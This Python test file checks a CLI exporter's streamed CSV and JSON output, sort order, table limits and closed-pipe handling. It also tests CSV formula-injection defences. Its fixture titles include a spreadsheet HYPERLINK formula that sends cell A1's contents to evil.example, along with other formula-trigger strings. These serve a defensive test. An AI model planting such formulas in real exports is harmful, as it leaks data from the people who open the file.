"""What the read commands write: streamed CSV/JSON, their order, formula cells, tables, pipes.

A small history with awkward titles and names (case, umlauts, a missing title, cells a
spreadsheet would run as formulas) on every backend: the streamed CSV and JSON must be exactly
what the materialized report renders, rows in the documented order.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging
import signal
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from support.helpers import make_settings, subprocess_env
from typer.testing import CliRunner

from exporter import cli
from exporter.db.engine import make_engine
from exporter.read import asof, changelog, formats, render, runs
from exporter.read import inventory as report
from exporter.sandbox.server import Sandbox
from exporter.service import job

TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2",
    "@SUM(A1:A2)",
    "\ttab first",
    "\rcarriage return first",
    "äpfel",
    "Äpfel",
    "apfel",
    "Apfel",
    "apfel ",
    "Zebra",
    "zebra",
    "",
    None,
]
OWNER_NAMES = ["alpha", "Alpha", "Ärzte"]


@pytest.fixture(autouse=True)
def _logging_restored() -> Iterator[None]:
    """Commands run in-process set up logging on a stream CliRunner closes: undo it after."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield
    for handler in root.handlers[:]:
        if handler not in handlers:
            root.removeHandler(handler)
    for handler in handlers:
        if handler not in root.handlers:
            root.addHandler(handler)
    root.setLevel(level)


def _ascii_key(text: str | None) -> tuple[bool, str]:
    """The documented sort key, spelled out independently of `report.fold`."""
    lowered = "".join(c.lower() if "A" <= c <= "Z" else c for c in text or "")
    return (text is None, lowered)


@pytest.fixture
def awkward(sandbox: Sandbox, db_url: str, tmp_path: Path) -> str:
    """`db_url` after two runs: the first load, then awkward titles and owner names."""
    settings = make_settings(sandbox, db_url, tmp_path)
    assert job.run_once(settings).status == "succeeded"
    owners = [o["id"] for o in sandbox.owners_payload()]
    locks = [lock["id"] for owner in owners for lock in sandbox.locks_payload(owner)]
    for lock_id, title in zip(locks, TITLES, strict=True):
        sandbox.update_lock(lock_id, title=title)
    for owner_id, name in zip(owners, OWNER_NAMES, strict=True):
        sandbox.update_owner(owner_id, name=name)
    assert job.run_once(settings).status == "succeeded"
    return db_url


def _cli(url: str, *args: str) -> str:
    result = CliRunner().invoke(cli.app, list(args), env={"EXPORTER_DATABASE__URL": url})
    assert result.exit_code == 0, (result.output, result.stderr)
    return str(result.stdout)


def _old_csv(rows: list[dict[str, Any]], columns: tuple[str, ...]) -> str:
    """CSV as the exporter wrote it before streaming, plus the formula rule and, as RFC 4180
    asks, a field with a carriage return quoted (lines still end in a bare newline)."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(columns), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({c: formats.csv_value(row.get(c)) for c in columns})
    return buffer.getvalue().replace("\r\n", "\n")  # no field here holds "\r\n" itself


def _old_json(data: Any) -> str:
    def default(value: Any) -> Any:
        assert isinstance(value, datetime | date)
        return value.isoformat()

    return json.dumps(data, indent=2, default=default) + "\n"


# -- streamed output is the materialized output ---------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [
        pytest.param((), id="now"),
        pytest.param(("--as-of", "1"), id="as-of"),
        pytest.param(("--include-removed",), id="include-removed"),
        pytest.param(("--search", "APFEL"), id="search"),
    ],
)
def test_streamed_locks_csv_and_json_are_the_materialized_inventory(
    awkward: str, options: tuple[str, ...]
) -> None:
    engine = make_engine(awkward)
    try:
        as_of = asof.resolve_as_of(engine, "1", now=datetime.now(UTC)) if "1" in options else None
        inventory = report.inventory(
            engine,
            as_of=as_of,
            search="APFEL" if "--search" in options else None,
            include_removed="--include-removed" in options,
        )
    finally:
        engine.dispose()
    locks = [lock.as_dict() for lock in inventory.locks]
    assert len(locks) == (3 if "--search" in options else 15)

    assert _cli(awkward, "locks", *options, "--format", "csv") == _old_csv(
        locks, render.LOCK_COLUMNS
    )
    expected = {
        "as_of": as_of.at if as_of else None,
        "as_of_run": as_of.run_id if as_of else None,
        "owners": [
            {"id": o.id, "name": o.name, "active": o.active, "removed_at": o.removed_at}
            for o in inventory.owners
        ],
        "locks": locks,
    }
    assert _cli(awkward, "locks", *options, "--format", "json") == _old_json(expected)
    # The documented order: owner name, owner id, title (ASCII letters in either case alike,
    # then by code point, no name or title last), lock id.
    keys = [
        (_ascii_key(r["owner_name"]), r["owner_account_id"], _ascii_key(r["title"]), r["id"])
        for r in locks
    ]
    assert keys == sorted(keys)
    owner_keys = [(_ascii_key(o.name), o.id) for o in inventory.owners]
    assert owner_keys == sorted(owner_keys)


def test_streamed_changes_csv_and_json_are_the_materialized_feed(awkward: str) -> None:
    engine = make_engine(awkward)
    try:
        rows = list(changelog.changes(engine).rows)
    finally:
        engine.dispose()
    assert len(rows) == 18 + len(TITLES) + len(OWNER_NAMES)  # created, then renamed

    assert _cli(awkward, "changes", "--format", "json") == _old_json([r.as_dict() for r in rows])
    flat = [
        {**r.as_dict(), "field": c.field, "old": c.old, "new": c.new}
        for r in rows
        for c in r.changes or (changelog.FieldChange("", None, None),)
    ]
    for row in flat:
        row["field"] = row["field"] or None
    assert _cli(awkward, "changes", "--format", "csv") == _old_csv(flat, render.CHANGE_COLUMNS)
    keys = [(r.changed_at, r.entity != "owner", r.id) for r in rows]
    assert keys == sorted(keys)


def test_writers_write_rows_while_they_are_read() -> None:
    # Rows are written in batches of 1,000: a row is out before the 1,001st after it is read.
    out = io.StringIO()

    def rows() -> Iterator[dict[str, Any]]:
        for n in range(2500):
            if n >= 1000:
                assert f'"row {n - 1000}"' in out.getvalue() or f"row {n - 1000}," in out.getvalue()
            yield {"title": f"row {n}", "n": n, "at": datetime(2026, 1, 1, tzinfo=UTC)}

    formats.write_csv_tuples(([r["title"], r["n"]] for r in rows()), ("title", "n"), out)
    out.seek(0)
    out.truncate()
    formats.write_json({"head": 1, "rows": rows()}, out)
    assert json.loads(out.getvalue())["rows"][-1] == {
        "title": "row 2499",
        "n": 2499,
        "at": "2026-01-01T00:00:00+00:00",
    }


# -- CSV formula cells ----------------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(awkward: str) -> None:
    rows = list(csv.DictReader(io.StringIO(_cli(awkward, "locks", "--format", "csv"))))
    titles = {r["id"]: r["title"] for r in rows}
    raw = list(csv.DictReader(io.StringIO(_cli(awkward, "locks", "-f", "csv", "--csv-raw"))))

    for row in raw:
        title = row["title"]
        shown = titles[row["id"]]
        if title[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert shown == "'" + title
        else:
            assert shown == title
    assert {r["title"] for r in raw} >= {t for t in TITLES if t}  # --csv-raw: as stored
    for neutral, exact in zip(rows, raw, strict=True):  # numbers and times untouched
        for column in ("manufacturer_id", "bind_date", "active"):
            assert neutral[column] == exact[column]

    def new_titles(*options: str) -> set[str]:
        text = _cli(awkward, "changes", "--run", "2", "--format", "csv", *options)
        return {row["new"] for row in csv.DictReader(io.StringIO(text)) if row["field"] == "title"}

    assert "'" + TITLES[0] in new_titles() and TITLES[0] not in new_titles()
    assert TITLES[0] in new_titles("--csv-raw")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="formula"),
        pytest.param("-5", "'-5", id="text-minus"),
        pytest.param(-5, "-5", id="negative-number"),
        pytest.param(-1.5, "-1.5", id="negative-float"),
        pytest.param(datetime(2026, 1, 2, tzinfo=UTC), "2026-01-02T00:00:00+00:00", id="time"),
        pytest.param(False, "false", id="boolean"),
        pytest.param("", "", id="empty"),
        pytest.param("a=b", "a=b", id="later-equals"),
    ],
)
def test_csv_value_quotes_only_text_that_starts_like_a_formula(value: Any, written: str) -> None:
    assert formats.csv_value(value) == written
    out = io.StringIO()
    formats.write_csv_tuples([[value, 1]], ("v", "n"), out)
    assert next(csv.DictReader(io.StringIO(out.getvalue())))["v"] == written


@pytest.mark.parametrize("row", [runs.RunRow, runs.RunOwnerRow], ids=["runs", "runs show"])
def test_run_columns_name_every_field_once(row: type[runs.RunRow | runs.RunOwnerRow]) -> None:
    assert sorted(row.COLUMNS) == sorted(f.name for f in dataclasses.fields(row))


def test_csv_fields_read_back_whatever_they_hold() -> None:
    values = ['a "quoted" word', "comma, inside", "line\nbreak", "cr\rinside", "crlf\r\n", " lead"]
    rows = [[value, n, None, value.upper()] for n, value in enumerate(values)]
    out = io.StringIO()
    formats.write_csv_tuples(rows, ("text", "n", "none", "upper"), out)

    assert out.getvalue().count("\n") >= len(rows) + 1
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read[0] == ["text", "n", "none", "upper"]
    assert read[1:] == [[value, str(n), "", value.upper()] for n, value in enumerate(values)]


# -- tables ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_tables_stop_at_the_limit_and_say_how_many_more(
    awkward: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(render, "TABLE_LIMIT", 4)
    monkeypatch.setattr(cli.out, "_width", 300)

    table = _cli(awkward, "locks")
    assert "11 more locks not shown (a table stops at 4)" in table
    assert "15 locks in 3 owner accounts." in table
    assert table.count("│ apfel ") + table.count("│ Zebra ") <= 4
    changes = _cli(awkward, "changes")
    assert changes.startswith("36 changes") and "32 more changes not shown" in changes


# -- run-once --format json -----------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite", "postgresql"], indirect=True)
def test_run_once_json_lists_the_changes_the_run_recorded(sandbox: Sandbox, db_url: str) -> None:
    env = subprocess_env(sandbox, db_url)
    runner = CliRunner()

    def run_once() -> dict[str, Any]:
        result = runner.invoke(cli.app, ["run-once", "--format", "json"], env=env)
        assert result.exit_code == 0, result.stderr
        return dict(json.loads(result.stdout))

    first = run_once()
    lock_id = sandbox.locks_payload(sandbox.owners_payload()[0]["id"])[0]["id"]
    sandbox.rename(lock_id, "Renamed by the test")
    second = run_once()

    assert len(first["changes"]) == 3 + 15
    assert first["changes"][0]["entity"] == "owner"
    assert {c["change_type"] for c in first["changes"]} == {"created"}
    assert second["changes"] == [
        {
            "entity": "lock",
            "id": lock_id,
            "change_type": "updated",
            "owner_account_id": sandbox.owners_payload()[0]["id"],
            "changed_fields": ["title"],
            "removal_reason": None,
            "title": "Renamed by the test",
        }
    ]
    recorded = json.loads(_cli(db_url, "changes", "--run", str(first["run_id"]), "-f", "json"))
    assert {(c["entity"], c["id"]) for c in recorded} == {
        (c["entity"], c["id"]) for c in first["changes"]
    }


# -- a reader that goes away ----------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    "args",
    [
        pytest.param(("locks", "--format", "csv"), id="csv"),
        pytest.param(("changes", "--format", "json"), id="json"),
        pytest.param(("locks",), id="table"),
        pytest.param(("runs",), id="runs-table"),
    ],
)
def test_a_closed_pipe_ends_the_command_quietly_like_sigpipe(
    awkward: str, sandbox: Sandbox, args: tuple[str, ...]
) -> None:
    # `exporter locks | head -1`: the reader is gone before (most of) the output is written.
    process = subprocess.Popen(
        [sys.executable, "-m", "exporter.cli", *args],
        env=subprocess_env(sandbox, awkward),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()
    with process.stderr:
        stderr = process.stderr.read()
    assert process.wait(timeout=60) == -signal.SIGPIPE
    assert stderr == b""
